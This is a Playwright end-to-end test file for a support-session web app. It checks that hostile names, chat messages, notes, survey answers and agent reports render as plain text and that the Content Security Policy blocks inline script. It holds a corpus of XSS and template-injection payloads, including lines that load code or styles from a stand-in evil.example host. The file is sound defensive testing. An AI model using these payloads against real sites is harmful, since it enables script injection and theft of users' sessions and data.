import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { InviteView, SessionView } from '@relevo/contracts';
import { PATIENCE_MS, until } from '@relevo/testing';
import type { Browser, Page } from 'playwright-core';
import { v7 as uuid } from 'uuid';
import type { TestApi } from '../support/api';
import { startChromium } from '../support/browser';
import { CsrPage } from '../support/csr';
import { CustomerPage } from '../support/customer';
import { Caller, TestDevice } from '../support/people';
import { Site } from '../support/site';
import { CALL } from '../support/watch';

jest.setTimeout(240_000);

/** Ways in which text has become script elsewhere. */
const CORPUS = [
  `<script>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<svg><script href="data:,${CALL}"/></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<details open ontoggle=${CALL}>`,
  `<body onpageshow=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<video><source onerror=${CALL}></video>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `<object data="javascript:${CALL}"></object>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=${CALL}></style></mglyph></math>`,
  `<form><button formaction="javascript:${CALL}">x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${CALL}">`,
  `<base href="https://evil.example/">`,
  `<link rel="stylesheet" href="data:text/css,*{display:none}">`,
  `<style>@import "https://evil.example/x.css"</style>`,
  `"><script>${CALL}</script>`,
  `' autofocus onfocus=${CALL} x='`,
  `\`\${${CALL}}\``,
  `{{constructor.constructor("${CALL}")()}}`,
  '{{csr}} $t(left.title) %s ${7*7}',
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `https://evil.example/"onmouseover="${CALL}`,
  `https://evil.example/#<img src=x onerror=${CALL}>`,
  `data:text/html,<script>${CALL}</script>`,
  `<a href="javascript:${CALL}">press</a>`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `]]><script>${CALL}</script>`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `<template shadowrootmode=open><img src=x onerror=${CALL}></template>`,
] as const;

/** The same for places that take 80 characters. */
const NAMES = {
  csr: `Ana"><img src=x onerror=${CALL}>`,
  organisation: `<svg onload=${CALL}>{{csr}}$t(left.title)`,
  customer: `María'><script>${CALL}</script>`,
  subject: `<details open ontoggle=${CALL}>`,
  machine: `PC<iframe srcdoc="<script>parent.${CALL}</script>">`,
  colleague: `Jorge "><svg onload=${CALL}>{{name}}`,
  supervisor: `Sofia '><img src=x onerror=${CALL}>$t(x)`,
} as const;

let site: Site;
let folder: string;
let browser: Browser;
let ana: CsrPage;
let maria: CustomerPage;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'relevo-hostile-'));
  [site, browser] = await Promise.all([Site.start(), startChromium()]);
  ana = await CsrPage.open(browser, site);
  maria = await CustomerPage.open(browser);
});
afterAll(async () => {
  await browser?.close();
  await site?.close();
  await rm(folder, { recursive: true, force: true });
});

const nothingRan = (...others: (CsrPage | CustomerPage)[]): void => {
  for (const { person } of [ana, maria, ...others]) expect(person.seen).toEqual([]);
};

/** No element that only a payload could have brought. */
const isPlain = async (page: Page): Promise<void> => {
  const strange = await page.evaluate(() =>
    [...document.querySelectorAll('*')]
      .filter(
        (element) =>
          /^(iframe|object|embed|base|math|template|animate)$/i.test(element.tagName) ||
          // Ours bear a class.
          (element.tagName === 'DETAILS' && element.className === '') ||
          [...element.attributes].some(
            ({ name, value }) =>
              /^on/i.test(name) ||
              (/^(href|src|action|formaction)$/i.test(name) && /^\s*(javascript|data:text)/i.test(value)),
          ),
      )
      .map((element) => element.outerHTML.slice(0, 200)),
  );
  expect(strange).toEqual([]);
};

/** A machine agent that gives itself a hostile name and reports hostile words. */
const hostileMachine = async (code: string, session: string): Promise<void> => {
  const api = { url: site.origin } as TestApi;
  const device = await TestDevice.make('machine');
  const body = await device.attaching(code);
  const { credential, participantId } = await new Caller(api).must<{
    credential: string;
    participantId: string;
  }>('POST', '/devices/attach', { ...body, device: { ...body.device, name: NAMES.machine } });
  const machine = new Caller(api, { authorization: `Bearer ${credential}` });
  const { records } = await machine.must<{ records: { content?: { body: string } }[] }>(
    'GET',
    `/streams/${session}/events?since=0&limit=100`,
  );
  const started = records.map(
    (r) =>
      JSON.parse(r.content?.body ?? '{}') as { type?: string; data?: { owner?: { participantId: string } } },
  );
  const csrId =
    started.find((event) => event.type === 'session.started')?.data?.owner?.participantId ?? participantId;
  for (const words of CORPUS.slice(0, 6)) {
    const report = await device.report(session, 'grant.given', {
      deviceId: device.id,
      grantId: uuid(),
      requestId: uuid(),
      capability: 'screen.view',
      csrId,
      csrKey: 'k'.repeat(43),
      fingerprints: { device: 'a'.repeat(64), csr: 'b'.repeat(64) },
      until: null,
      wordsHash: 'c'.repeat(64),
      words,
      nonce: 'n',
    });
    await machine.mustCommand(session, 'device.report', report);
  }
};

test('SEC-X1 hostile names, purpose, invitation, chat and agent data are text on every page: no script runs, nothing has to be stopped', async () => {
  await ana.setUp(NAMES.csr);
  await ana.set({ organisation: NAMES.organisation });
  const { id } = await ana.rest<SessionView>('POST', '/sessions', {
    sessionId: uuid(),
    subject: NAMES.subject,
  });
  const { link } = await ana.rest<InviteView>('POST', `/sessions/${id}/invites`, { inviteId: uuid() });

  // The invitation, with the names of CSR and organisation and the purpose.
  await maria.page.goto(link);
  await maria.page.getByText(NAMES.organisation).first().waitFor();
  await maria.page.getByText(NAMES.subject).first().waitFor();
  await isPlain(maria.page);
  await maria.page.getByLabel('Your name').fill(NAMES.customer);
  await maria.button('Join').click();

  await ana.page.goto(`${site.origin}/sessions/${id}`);
  await ana.admit(NAMES.customer);
  await maria.isIn();
  for (const text of CORPUS) await ana.say(text);
  await maria.hears(CORPUS);
  for (const text of CORPUS) await maria.say(text);
  await ana.hears([...CORPUS, ...CORPUS]);
  await Promise.all([isPlain(ana.page), isPlain(maria.page)]);

  const command = await maria.agentCommand();
  await hostileMachine(/\d{3}[- ]?\d{3}[- ]?\d{3}/.exec(command)?.[0] ?? command, id);
  await maria.page.getByText(NAMES.machine).first().waitFor();

  // Everything that is said of it in the console: people, what happened, invites, the lists, full loads of each.
  await ana.openPanel('Participants');
  await ana.page.getByText(NAMES.customer).first().waitFor();
  await ana.page
    .getByRole('button', { name: /^All events/ })
    .first()
    .click();
  await isPlain(ana.page);
  await ana.page.keyboard.press('Escape');
  await ana.invite();
  for (const path of ['/', `/sessions/${id}`, '/settings']) {
    await ana.page.goto(`${site.origin}${path}`);
    await ana.page.getByRole('button').first().waitFor();
    await isPlain(ana.page);
  }
  await maria.page.reload();
  await maria.isIn();
  await isPlain(maria.page);
  await maria.leave();
  await isPlain(maria.page);
  nothingRan();
  expect(ana.person.faults).toEqual([]);
  expect(maria.person.faults).toEqual([]);
});

test('SEC-X1 hostile notes, reasons, names of colleagues, survey, record of changes and receipt are text wherever they are read', async () => {
  const reason = CORPUS.slice(0, 12).join(' ');
  const [jorge, sofia] = [
    await ana.colleague(browser, NAMES.colleague),
    await ana.colleague(browser, NAMES.supervisor, 'supervisor'),
  ];
  await ana.page.goto(`${site.origin}/`);
  await ana.startSession();
  const { link } = await ana.invite();
  maria = await CustomerPage.open(browser);
  await maria.join(link, NAMES.customer);
  await ana.admit(NAMES.customer);
  await maria.isIn();

  // A ring, and what comes of it on every side.
  await ana.askIn(NAMES.colleague);
  await jorge.ring(NAMES.csr).waitFor();
  await isPlain(jorge.page);
  await jorge.comeIn(NAMES.csr);
  await maria.page.getByText(NAMES.colleague).first().waitFor();

  // Notes and their versions, read by the other; a reason that becomes a part of them.
  await ana.openPanel('Notes');
  for (const text of [CORPUS.slice(0, 20).join('\n'), CORPUS.slice(20).join('\n')]) {
    await ana.notes.fill(text);
    await ana.saveNotes();
  }
  await jorge.openPanel('Notes');
  await until('the notes', PATIENCE_MS, async () =>
    (await jorge.notes.inputValue()) === CORPUS.slice(20).join('\n') ? true : null,
  );
  await jorge.page
    .getByRole('region', { name: 'Versions' })
    .getByRole('group')
    .last()
    .locator('summary')
    .click();
  await ana.transferTo(NAMES.colleague, reason);
  for (const csr of [ana, jorge]) {
    await csr.openPanel('Notes');
    await csr.page.getByRole('region', { name: 'Versions' }).getByText(CORPUS[0]).first().waitFor();
    await isPlain(csr.page);
  }
  await isPlain(maria.page);

  // The owner is lost: who may take over says why.
  await jorge.page.goto('about:blank');
  await sofia.page.goto(`${site.origin}/`);
  await sofia.button(`Take over the session with ${NAMES.customer}`).click();
  const dialog = sofia.page.getByRole('dialog', { name: `Take over from ${NAMES.colleague}` });
  await dialog.getByLabel('Why').fill(reason);
  await isPlain(sofia.page);
  await dialog.getByRole('button', { name: 'Take over' }).click();
  await sofia.toolbar.waitFor();
  await maria.page.getByText(NAMES.supervisor).first().waitFor();
  await sofia.page
    .getByRole('button', { name: /^All events/ })
    .first()
    .click();
  await isPlain(sofia.page);
  await sofia.page.keyboard.press('Escape');
  await sofia.endSession();

  // What the customer says at the end, and takes home.
  await maria.heading('The session is over').waitFor();
  const survey = maria.page.getByRole('region', { name: /problem solved/ });
  await survey.getByRole('radio', { name: '1 of 5' }).check();
  await survey.getByRole('textbox').fill(reason);
  await survey.getByRole('button').click();
  await survey.getByText(/^Thank you\./).waitFor();
  const said = sofia.page.getByRole('list', { name: 'What customers said' });
  await said.getByText(CORPUS[0]).first().waitFor();
  for (const { page } of [sofia, maria]) await isPlain(page);
  const [file] = await Promise.all([
    maria.page.waitForEvent('download'),
    maria.button('Download the receipt').click(),
  ]);
  const receipt = await maria.person.anotherTab();
  const path = join(folder, file.suggestedFilename());
  await file.saveAs(path);
  await receipt.goto(`file://${path}`);
  await receipt.getByRole('heading', { name: 'Receipt of a support session' }).waitFor();
  await receipt.getByText(NAMES.supervisor).first().waitFor();
  await receipt.getByText(NAMES.organisation).first().waitFor();
  await isPlain(receipt);

  // The record of changes names people and settings as they were given.
  await ana.page.goto(`${site.origin}/settings/audit`);
  await ana.page.getByText(NAMES.supervisor).first().waitFor();
  await ana.page.getByText(NAMES.organisation).first().waitFor();
  await isPlain(ana.page);
  await ana.page.goto(`${site.origin}/settings/users`);
  await ana.page.getByText(NAMES.supervisor).first().waitFor();
  await isPlain(ana.page);
  nothingRan(jorge, sofia);
  for (const one of [ana, maria, jorge, sofia]) expect(one.person.faults).toEqual([]);
});

test('SEC-X1 neither inline script nor text that becomes HTML is let through, should a page ever try', async () => {
  for (const { page, person } of [ana, maria]) {
    await page.goto(page === ana.page ? `${site.origin}/` : `${site.origin}/join`);
    const before = person.seen.length;
    const refused = await page.evaluate((call) => {
      const script = document.createElement('script');
      const tries: (() => unknown)[] = [
        () => (script.text = call),
        () => (document.body.innerHTML = `<img src=x onerror=${call}>`),
        () => document.write(`<script>${call}</script>`),
        () => new DOMParser().parseFromString('<b>', 'text/html'),
        // Named this way because the project itself never evaluates text.
        () => Reflect.get(globalThis, 'eval')(call),
        () => (script.src = 'https://evil.example/x.js'),
      ];
      // In a task of the page’s own: what a debugger calls directly may evaluate text whatever the policy says.
      return new Promise<string[]>((resolve) =>
        setTimeout(() =>
          resolve(
            tries.map((attempt) => {
              try {
                attempt();
                return 'done';
              } catch (error) {
                return (error as Error).name;
              }
            }),
          ),
        ),
      );
    }, CALL);
    expect(refused).toEqual([
      'TypeError',
      'TypeError',
      'TypeError',
      'TypeError',
      expect.stringMatching(/^(EvalError|TypeError)$/),
      'TypeError',
    ]);
    await until('the policy reports', PATIENCE_MS, async () =>
      person.seen.length > before && person.seen.some(({ kind }) => kind === 'csp') ? true : null,
    );
    expect(person.seen.filter(({ kind }) => kind !== 'csp')).toEqual([]);
  }
});
